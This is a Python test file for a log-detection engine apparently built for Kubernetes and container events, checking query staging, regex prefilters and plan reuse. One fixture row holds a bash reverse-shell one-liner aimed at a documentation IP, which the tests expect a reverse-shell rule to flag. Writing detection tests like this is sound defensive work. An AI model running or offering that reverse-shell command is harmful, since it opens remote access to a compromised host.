"""The one-pass engine: both query shapes agree, the staging (per dataset, shared lower() columns, regex
prefilters) changes no result, and a plan is reused across batches."""

from __future__ import annotations

from pathlib import Path

import yaml

from kubetrail.detect.engine import Engine, stage_sql
from kubetrail.detect.rules import load_rules
from kubetrail.detect.testing import batch_of

REPO = Path(__file__).resolve().parents[2]


def all_test_events() -> list[dict]:
    events: list[dict] = []
    for f in sorted((REPO / "tests/detect/rules").glob("*.yml")):
        spec = yaml.safe_load(f.read_text())
        for item in [*(spec.get("match") or []), *(spec.get("no_match") or [])]:
            events += item if spec.get("correlation") else [item]
    return events


def matches_by_rule(engine: Engine, batch) -> dict[str, list[int]]:  # type: ignore[no-untyped-def]
    return {m.rule.id: m.rows.tolist() for m in engine.evaluate(batch).matches}


def test_union_and_project_agree_and_plan_is_reused() -> None:
    ruleset = load_rules([REPO / "rules"])
    batch = batch_of(all_test_events())
    union, project = Engine(ruleset, mode="union"), Engine(ruleset, mode="project")
    first = matches_by_rule(union, batch)
    assert first == matches_by_rule(project, batch)
    assert len(first) >= 40
    prepared = union._prepared
    assert matches_by_rule(union, batch.slice(0, 7)) == {
        rid: [r for r in rows if r < 7] for rid, rows in first.items() if any(r < 7 for r in rows)
    }
    assert union._prepared is prepared  # same plan for the next batch


def test_staging_rewrites_lower_and_guards_regexes() -> None:
    ruleset = load_rules([REPO / "rules"])
    container = [r for r in ruleset.rules if r.dataset == "container"]
    stage = stage_sql(container)
    assert "message" in stage.lowered and "message" in stage.prefilters
    for rule in container:
        assert 'lower("message")' not in stage.sql[rule.id]
        if 'regexp_matches("__lower.message"' in stage.sql[rule.id]:
            assert '"__any.message" AND regexp_matches("__lower.message"' in stage.sql[rule.id]


def test_lowered_message_is_staged_only_behind_the_prefilter() -> None:
    """Substring tests join the regex prefilter, so lower(message) is only copied where it passed."""
    from kubetrail.detect.engine import stage_sql
    from kubetrail.detect.testing import container_row
    from kubetrail.schema import from_pylist

    rules = load_rules([Path(__file__).resolve().parents[2] / "rules"])
    container = [r for r in rules.rules if r.dataset == "container"]
    stage = stage_sql(container)
    assert stage.lowered_if_any == ["message"]
    shell = next(r for r in container if r.name == "container_shell_activity")
    guarded = '("__any.message" AND contains("__lower.message", \'uid=0(root) gid=0(root)\'))'
    assert guarded in stage.sql[shell.id]
    batch = from_pylist(
        [
            container_row("UID=0(root) GID=0(root) groups=0(root)"),
            container_row("GET /healthz 200"),
            container_row("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
        ]
    )
    hits = {m.rule.name: m.rows.tolist() for m in Engine(rules).evaluate(batch).matches}
    assert hits["container_shell_activity"] == [0]
    assert hits["container_reverse_shell"] == [2]


def test_nested_and_terms_are_flattened_so_cheap_equality_runs_first() -> None:
    rules = load_rules([Path(__file__).resolve().parents[2] / "rules" / "privilege_escalation"])
    sql = next(r.sql for r in rules.rules if r.name == "k8s_binding_cluster_admin")
    body = sql.split(" AND ", 1)[1]
    assert body.index('"kubernetes.audit.verb" IN') < body.index("starts_with(lower(")
    assert body.index('"kubernetes.audit.objectRef.resource" IN') < body.index("json_extract")
